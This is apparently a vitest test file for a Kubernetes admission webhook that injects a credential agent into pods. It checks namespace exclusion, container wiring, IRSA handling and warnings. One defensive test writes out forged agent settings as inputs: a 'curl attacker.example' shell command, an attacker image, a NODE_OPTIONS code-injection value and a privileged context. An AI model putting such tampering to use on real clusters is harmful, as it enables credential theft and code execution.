// Decisions of the mutation that the golden pods do not show one by one.
import { describe, expect, it } from "vitest";
import type { Grant } from "../../src/shared/grant.js";
import { mutatePod, type MutationResult } from "../../src/webhook/mutate-pod.js";
import type { Container, Pod } from "../../src/webhook/pod.js";
import { applyPatch, grant, settings } from "./support/fixtures.js";

function pod(options: { labels?: Record<string, string>; annotations?: Record<string, string>; containers?: Container[]; initContainers?: Container[]; hostNetwork?: boolean } = {}): Pod {
  return {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { generateName: "app-", namespace: "ray-jobs", labels: options.labels ?? { app: "etl" }, ...(options.annotations ? { annotations: options.annotations } : {}) },
    spec: {
      containers: options.containers ?? [{ name: "main", image: "python:3.12" }],
      ...(options.initContainers ? { initContainers: options.initContainers } : {}),
      ...(options.hostNetwork ? { hostNetwork: true } : {}),
      serviceAccountName: "default",
    },
  };
}

function mutate(target: Pod, grants: Grant[], namespace = "ray-jobs"): MutationResult {
  return mutatePod({ pod: target, namespace, grants, settings });
}

function admitted(target: Pod, grants: Grant[]): Pod {
  return applyPatch(target, mutate(target, grants).patch);
}

const IRSA_ENV = [
  { name: "AWS_ROLE_ARN", value: "arn:aws:iam::123456789012:role/base" },
  { name: "AWS_WEB_IDENTITY_TOKEN_FILE", value: "/var/run/secrets/eks.amazonaws.com/serviceaccount/token" },
];
const IRSA_MOUNT = { name: "aws-iam-token", mountPath: "/var/run/secrets/eks.amazonaws.com/serviceaccount", readOnly: true };
const IRSA_VOLUME = { name: "aws-iam-token", projected: { sources: [{ serviceAccountToken: { audience: "sts.amazonaws.com", expirationSeconds: 86400, path: "token" } }] } };

describe("mutatePod", () => {
  it("never injects in kube-system, even when a grant there selects the pod", () => {
    const result = mutate(pod(), [grant("g", { namespace: "kube-system" })], "kube-system");
    expect(result).toMatchObject({ patch: [], outcome: { injected: false, reason: "ExcludedNamespace" } });
  });

  it("never injects in the operator's own namespace", () => {
    const result = mutate(pod(), [grant("g", { namespace: settings.operatorNamespace })], settings.operatorNamespace);
    expect(result.outcome.reason).toBe("ExcludedNamespace");
  });

  it("ignores a grant that is being deleted", () => {
    expect(mutate(pod(), [grant("g", { deleting: true })]).outcome.reason).toBe("NoMatchingGrant");
  });

  it("ignores a grant whose selector the controller reports invalid", () => {
    const invalid = grant("g", { spec: { podSelector: { matchLabels: { "bad key!": "x" } } } });
    expect(mutate(pod(), [invalid]).outcome.reason).toBe("NoMatchingGrant");
  });

  it("injects a pod whose service account the grant names", () => {
    const result = mutate(pod(), [grant("g", { spec: { serviceAccountNames: ["default"] } })]);
    expect(result.outcome).toMatchObject({ injected: true, reason: "Injected", grant: "g" });
  });

  it("puts the agent first among existing init containers", () => {
    const result = admitted(pod({ initContainers: [{ name: "wait-gcs-ready", image: "ray" }] }), [grant("g")]);
    expect(result.spec?.initContainers?.map((c) => c.name)).toEqual(["ddcred-agent", "wait-gcs-ready"]);
  });

  it("wires only the containers the grant names and never reorders containers", () => {
    const containers = [{ name: "ray-head" }, { name: "autoscaler" }];
    const result = admitted(pod({ containers }), [grant("g", { spec: { containers: ["ray-head"] } })]);
    expect(result.spec?.containers.map((c) => c.name)).toEqual(["ray-head", "autoscaler"]);
    expect(result.spec?.containers[0]?.volumeMounts).toContainEqual({ name: "ddcred", mountPath: "/var/run/ddcred", readOnly: true });
    expect(result.spec?.containers[1]).toEqual({ name: "autoscaler" });
  });

  it("wires an init container the grant names, after the agent has started", () => {
    const result = admitted(pod({ initContainers: [{ name: "fetch-model" }] }), [grant("g", { spec: { containers: ["fetch-model"] } })]);
    expect(result.spec?.initContainers?.[1]?.env?.map((v) => v.name)).toContain("DD_BEARER_TOKEN_FILE");
    expect(result.spec?.containers[0]).toEqual({ name: "main", image: "python:3.12" });
  });

  it("admits the pod uninjected, with a warning, when the grant names none of its containers", () => {
    const result = mutate(pod(), [grant("g", { spec: { containers: ["ray-head"] } })]);
    expect(result).toMatchObject({ patch: [], outcome: { reason: "NoContainerToWire" } });
    expect(result.warnings).toEqual([expect.stringContaining("ray-head")]);
  });

  it("admits the pod uninjected, with a warning, when a container already uses the agent's API port", () => {
    const result = mutate(pod({ containers: [{ name: "main", ports: [{ containerPort: 9911 }] }] }), [grant("g")]);
    expect(result).toMatchObject({ patch: [], outcome: { reason: "PortTaken" } });
    expect(result.warnings).toHaveLength(1);
  });

  it("admits a hostNetwork pod uninjected, with a warning", () => {
    const result = mutate(pod({ hostNetwork: true }), [grant("g")]);
    expect(result).toMatchObject({ patch: [], outcome: { reason: "HostNetwork" } });
    expect(result.warnings).toHaveLength(1);
  });

  it("injects a pod that carries the injected annotation but no agent", () => {
    const result = mutate(pod({ annotations: { "ddcred.io/injected": "g" } }), [grant("g")]);
    expect(result.outcome.reason).toBe("Injected");
  });

  it("changes nothing in an injected pod whose agent an IRSA webhook honouring skip-containers gave the base identity", () => {
    const injected = admitted(pod(), [grant("g")]);
    const agent = injected.spec?.initContainers?.[0] as Container;
    agent.env = [...(agent.env ?? []), ...IRSA_ENV];
    agent.volumeMounts = [...(agent.volumeMounts ?? []), IRSA_MOUNT];
    injected.spec!.volumes = [...(injected.spec!.volumes ?? []), IRSA_VOLUME];
    expect(mutate(injected, [grant("g")])).toMatchObject({ patch: [], outcome: { reason: "AlreadyInjected" } });
  });

  it("refuses a copy of an injected pod once its grant is gone, saying what to remove", () => {
    const injected = admitted(pod(), [grant("g")]);
    const result = mutate(injected, []);
    expect(result).toMatchObject({ patch: [], outcome: { injected: false, reason: "UnverifiedAgent", grant: "g" } });
    expect(result.refusal).toMatch(/picks grant g, which does not exist, is not allowed by cluster policy or does not select it.*remove the ddcred-agent container/);
  });

  it("converges a copy of an injected pod once the API server has filled in its defaults", () => {
    const injected = admitted(pod(), [grant("g")]);
    const agent = injected.spec?.initContainers?.[0] as Container;
    agent.terminationMessagePath = "/dev/termination-log";
    for (const variable of agent.env ?? []) if (variable.valueFrom?.fieldRef) variable.valueFrom.fieldRef.apiVersion = "v1";
    expect(mutate(injected, [grant("g")])).toMatchObject({ patch: [], outcome: { injected: true, reason: "AlreadyInjected" } });
  });

  it("refuses a pod whose agent is configured for another grant than the one that selects it", () => {
    const fromOther = admitted(pod(), [grant("other")]);
    const onlyG = { ...fromOther, metadata: { ...fromOther.metadata, labels: { app: "etl" }, annotations: {} } };
    const result = mutate(onlyG, [grant("g")]);
    expect(result.outcome.reason).toBe("UnverifiedAgent");
    expect(result.refusal).toMatch(/configured for grant other, while grant g selects it/);
  });

  it("refuses a pod whose agent runs another image, command or configuration than its grant gives", () => {
    for (const forge of [
      (agent: Container) => void (agent.image = "registry.example/attacker:1"),
      (agent: Container) => void (agent.command = ["sh", "-c", "curl attacker.example"]),
      (agent: Container) => void agent.env?.push({ name: "NODE_OPTIONS", value: "--require /tmp/x.js" }),
      (agent: Container) => void (agent.securityContext = { privileged: true }),
    ]) {
      const injected = admitted(pod(), [grant("g")]);
      forge(injected.spec?.initContainers?.[0] as Container);
      expect(mutate(injected, [grant("g")]).outcome.reason).toBe("UnverifiedAgent");
    }
  });

  it("refuses an injected pod whose credentials volume was swapped for another kind", () => {
    const injected = admitted(pod(), [grant("g")]);
    injected.spec!.volumes = [{ name: "ddcred", hostPath: { path: "/var/lib/shared" } }];
    expect(mutate(injected, [grant("g")]).outcome.reason).toBe("UnverifiedAgent");
  });

  it("refuses a pod that opts out of injection yet carries the agent", () => {
    const injected = admitted(pod(), [grant("g")]);
    injected.metadata!.annotations = { ...injected.metadata!.annotations, "ddcred.io/inject": "false" };
    expect(mutate(injected, [grant("g")]).refusal).toMatch(/opts out of injection/);
  });

  it("admits a pod that shares its process namespace uninjected, with a warning", () => {
    const shared = { ...pod(), spec: { ...pod().spec!, shareProcessNamespace: true } };
    const result = mutate(shared, [grant("g")]);
    expect(result).toMatchObject({ patch: [], outcome: { injected: false, reason: "SharedProcessNamespace" } });
    expect(result.warnings).toEqual([expect.stringMatching(/shareProcessNamespace.*\/proc/)]);
  });

  it("tells the user which envFrom sources ddcred's env overrides, and stays quiet about prefixed ones that cannot collide", () => {
    const main: Container = {
      name: "main",
      envFrom: [{ configMapRef: { name: "settings" } }, { secretRef: { name: "keys" }, prefix: "APP_" }, { configMapRef: { name: "aws" }, prefix: "AWS_" }],
    };
    const result = mutate(pod({ containers: [main] }), [grant("g")]);
    expect(result.warnings).toEqual([expect.stringMatching(/container main takes env from ConfigMap settings, ConfigMap aws;.*set it under env/)]);
  });

  it("never gives the agent static AWS keys the app container carries", () => {
    const withKeys = pod({
      containers: [{
        name: "main",
        env: [...IRSA_ENV, { name: "AWS_ACCESS_KEY_ID", value: "AKIA0000000000000000" }, { name: "AWS_SECRET_ACCESS_KEY", value: "not-for-the-agent" }],
        volumeMounts: [IRSA_MOUNT],
      }],
    });
    const agent = admitted(withKeys, [grant("g")]).spec?.initContainers?.[0];
    const names = agent?.env?.map((v) => v.name) ?? [];
    expect(names).toContain("AWS_WEB_IDENTITY_TOKEN_FILE");
    expect(names.filter((name) => name.includes("ACCESS_KEY"))).toEqual([]);
  });

  it("leaves the init containers the grant does not wire with their base identity", () => {
    const init = { name: "migrate", env: IRSA_ENV, volumeMounts: [IRSA_MOUNT] };
    const result = admitted(pod({ initContainers: [init], containers: [{ name: "main", env: IRSA_ENV, volumeMounts: [IRSA_MOUNT] }] }), [grant("g")]);
    expect(result.spec?.initContainers?.[1]).toEqual(init);
    expect(result.spec?.containers[0]?.env?.map((v) => v.name)).not.toContain("AWS_WEB_IDENTITY_TOKEN_FILE");
  });
});
